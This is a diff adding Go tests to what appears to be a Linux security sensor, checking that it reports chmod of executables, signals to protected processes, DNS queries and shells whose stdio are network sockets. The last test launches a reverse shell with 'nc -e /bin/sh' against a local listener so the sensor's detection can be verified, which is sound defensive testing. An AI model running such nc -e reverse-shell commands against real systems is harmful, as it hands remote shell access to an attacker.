@@ -3,6 +3,7 @@ package sensor
 import (
 	"context"
 	"fmt"
+	"io"
 	"net"
 	"os"
 	"os/exec"
@@ -481,4 +482,203 @@ func TestDirCacheInvalidation(t *testing.T) {
 		return ev.GetKind() == api.EventKind_EVENT_KIND_FILE_OPEN && ownChild(ev, cat.Process.Pid) &&
 			ev.GetFileOpen().GetPath() == moved
 	})
+}
+
+// TestChmod: a mode that sets an execute bit is reported wherever the file
+// is, with its absolute path; other modes only under a watched prefix.
+func TestChmod(t *testing.T) {
+	dir := t.TempDir()
+	watched := filepath.Join(t.TempDir(), "watched")
+	if err := os.MkdirAll(watched, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	secret := filepath.Join(watched, "secret")
+	for _, f := range []string{filepath.Join(dir, "payload"), filepath.Join(dir, "fd-payload"), filepath.Join(dir, "plain"), secret} {
+		if err := os.WriteFile(f, []byte("x"), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	c := startSensor(t, Config{WatchPaths: []string{watched + "/"}})
+	h := helper(t, "chmod", dir, secret)
+	chmodOf := func(path string, mode uint32) func(*api.Event) bool {
+		return func(ev *api.Event) bool {
+			return ev.GetKind() == api.EventKind_EVENT_KIND_CHMOD && ownChild(ev, h.Process.Pid) &&
+				ev.GetChmod().GetPath() == path && ev.GetChmod().GetMode() == mode
+		}
+	}
+	tests := []struct {
+		what string
+		path string
+		mode uint32
+	}{
+		{"chmod 0755 by a relative name", filepath.Join(dir, "payload"), 0o755},
+		{"fchmod 0700", filepath.Join(dir, "fd-payload"), 0o700},
+		{"fchmodat2 AT_EMPTY_PATH 0711", filepath.Join(dir, "fd-payload"), 0o711},
+		{"chmod 0600 of a watched file", secret, 0o600},
+	}
+	for _, tt := range tests {
+		ev := c.waitFor(t, tt.what, chmodOf(tt.path, tt.mode))
+		if ev.GetChmod().GetResult() != 0 {
+			t.Errorf("%s: result %d", tt.what, ev.GetChmod().GetResult())
+		}
+	}
+	c.none(t, "chmod 0644 of an unwatched file", func(ev *api.Event) bool {
+		return ev.GetChmod().GetPath() == filepath.Join(dir, "plain")
+	})
+}
+
+// TestChmodInContainer: "chmod +x" of a downloaded file inside a container
+// reports the path as the container sees it.
+func TestChmodInContainer(t *testing.T) {
+	runctest.Require(t)
+	c := startSensor(t, Config{})
+	ctr := runctest.Start(t, runctest.Options{})
+	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
+	defer cancel()
+	if out, err := ctr.Exec(ctx, "sh", "-c", "cd /tmp && echo x > dl && chmod +x ./dl && chmod 644 dl"); err != nil {
+		t.Fatalf("exec in container: %v %s", err, out)
+	}
+	ev := c.waitFor(t, "chmod +x in the container", func(ev *api.Event) bool {
+		return ev.GetKind() == api.EventKind_EVENT_KIND_CHMOD && ev.GetContainer().GetId() == ctr.ID &&
+			ev.GetProcess().GetComm() == "chmod"
+	})
+	if ch := ev.GetChmod(); ch.GetPath() != "/tmp/dl" || ch.GetMode()&0o111 == 0 || ch.GetResult() != 0 {
+		t.Errorf("chmod = %v, want +x of /tmp/dl", ch)
+	}
+	c.none(t, "chmod 644 of an unwatched file", func(ev *api.Event) bool {
+		return ev.GetChmod().GetPath() == "/tmp/dl" && ev.GetChmod().GetMode() == 0o644
+	})
+}
+
+// TestSignalToProtectedProcess: signals to the sensor (and to pids added
+// with ProtectPID) are reported, signal 0 probes included; others are not.
+func TestSignalToProtectedProcess(t *testing.T) {
+	c := startSensor(t, Config{})
+	sleeper := func() *exec.Cmd {
+		cmd := exec.Command("sleep", "30")
+		if err := cmd.Start(); err != nil {
+			t.Fatal(err)
+		}
+		t.Cleanup(func() { _ = cmd.Process.Kill(); _ = cmd.Wait() })
+		return cmd
+	}
+	protected, other := sleeper(), sleeper()
+	if err := c.s.ProtectPID(uint32(protected.Process.Pid)); err != nil {
+		t.Fatal(err)
+	}
+	self := os.Getpid()
+	h := helper(t, "kill", strconv.Itoa(self), "0", strconv.Itoa(protected.Process.Pid), strconv.Itoa(int(unix.SIGTERM)),
+		strconv.Itoa(other.Process.Pid), strconv.Itoa(int(unix.SIGTERM)))
+	for _, tt := range []struct {
+		what   string
+		target int
+		sig    int32
+	}{
+		{"kill -0 of the sensor", self, 0},
+		{"SIGTERM to a protected pid", protected.Process.Pid, int32(unix.SIGTERM)},
+	} {
+		ev := c.waitFor(t, tt.what, func(ev *api.Event) bool {
+			return ev.GetKind() == api.EventKind_EVENT_KIND_SIGNAL && ownChild(ev, h.Process.Pid) &&
+				ev.GetSignal().GetTargetPid() == uint32(tt.target)
+		})
+		if s := ev.GetSignal(); s.GetSignal() != tt.sig || s.GetResult() != 0 {
+			t.Errorf("%s: signal = %v, want %d", tt.what, s, tt.sig)
+		}
+	}
+	c.none(t, "signal to an unprotected pid", func(ev *api.Event) bool {
+		return ev.GetSignal().GetTargetPid() == uint32(other.Process.Pid)
+	})
+}
+
+// TestDNSQuery: UDP datagrams to port 53, by address or on a connected
+// socket, are decoded as DNS queries; other ports are not reported, and a
+// payload that is not a query is kept with an empty name and counted.
+func TestDNSQuery(t *testing.T) {
+	c := startSensor(t, Config{})
+	h := helper(t, "dns")
+	byName := func(name string) func(*api.Event) bool {
+		return func(ev *api.Event) bool {
+			return ev.GetKind() == api.EventKind_EVENT_KIND_DNS_QUERY && ownChild(ev, h.Process.Pid) &&
+				ev.GetDnsQuery().GetName() == name
+		}
+	}
+	for _, tt := range []struct {
+		name  string
+		qtype uint32
+		id    uint32
+	}{
+		{"sendto.harrier-test.example", 1, 1},
+		{"sendmsg.harrier-test.example", 28, 2},
+		{"connected.harrier-test.example", 1, 4},
+		{"sendmmsg.harrier-test.example", 1, 5},
+	} {
+		q := c.waitFor(t, "DNS query "+tt.name, byName(tt.name)).GetDnsQuery()
+		if q.GetQtype() != tt.qtype || q.GetTransactionId() != tt.id || q.GetServer().GetIp() != "127.0.0.1" ||
+			q.GetServer().GetPort() != 53 || q.GetServer().GetFamily() != "ipv4" {
+			t.Errorf("%s: query = %v", tt.name, q)
+		}
+	}
+	c.waitFor(t, "malformed DNS payload", byName(""))
+	c.none(t, "datagram to port 5353", func(ev *api.Event) bool {
+		return ev.GetDnsQuery().GetServer().GetPort() == 5353 || strings.HasPrefix(ev.GetDnsQuery().GetName(), "other-port.")
+	})
+	st, err := c.s.Stats()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if st.DNSDecodeErrors == 0 {
+		t.Error("the malformed payload was not counted")
+	}
+}
+
+// TestExecStdioSockets: a shell started by "nc -e" has a TCP socket as
+// stdin and stdout, and the exec event names its peer.
+func TestExecStdioSockets(t *testing.T) {
+	runctest.Require(t) // for busybox-static
+	c := startSensor(t, Config{})
+	ln, err := net.Listen("tcp4", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer ln.Close()
+	accepted := make(chan error, 1)
+	go func() {
+		conn, err := ln.Accept()
+		if err == nil {
+			_, err = conn.Write([]byte("exit\n"))
+			_, _ = io.Copy(io.Discard, conn)
+			conn.Close()
+		}
+		accepted <- err
+	}()
+	port := ln.Addr().(*net.TCPAddr).Port
+	nc := exec.Command(runctest.BusyboxPath, "nc", "127.0.0.1", strconv.Itoa(port), "-e", "/bin/sh")
+	if out, err := nc.CombinedOutput(); err != nil {
+		t.Fatalf("nc -e: %v %s", err, out)
+	}
+	if err := <-accepted; err != nil {
+		t.Fatal(err)
+	}
+	ev := c.waitFor(t, "exec of the shell", func(ev *api.Event) bool {
+		return ev.GetKind() == api.EventKind_EVENT_KIND_EXEC && ownChild(ev, nc.Process.Pid) &&
+			ev.GetExec().GetFilename() == "/bin/sh"
+	})
+	ss := ev.GetExec().GetStdioSockets()
+	if len(ss) < 2 {
+		t.Fatalf("stdio sockets = %v, want fd 0 and 1", ss)
+	}
+	for i, s := range ss[:2] {
+		r := s.GetRemote()
+		if s.GetFd() != uint32(i) || s.GetFamily() != "ipv4" || r.GetIp() != "127.0.0.1" || r.GetPort() != uint32(port) {
+			t.Errorf("stdio socket %d = %v, want 127.0.0.1:%d", i, s, port)
+		}
+	}
+	// nc itself started with pipes: no sockets.
+	first := c.waitFor(t, "exec of nc", func(ev *api.Event) bool {
+		return ev.GetKind() == api.EventKind_EVENT_KIND_EXEC && ownChild(ev, nc.Process.Pid) &&
+			ev.GetExec().GetFilename() == runctest.BusyboxPath
+	})
+	if got := first.GetExec().GetStdioSockets(); len(got) != 0 {
+		t.Errorf("nc started with pipes, got stdio sockets %v", got)
+	}
 }
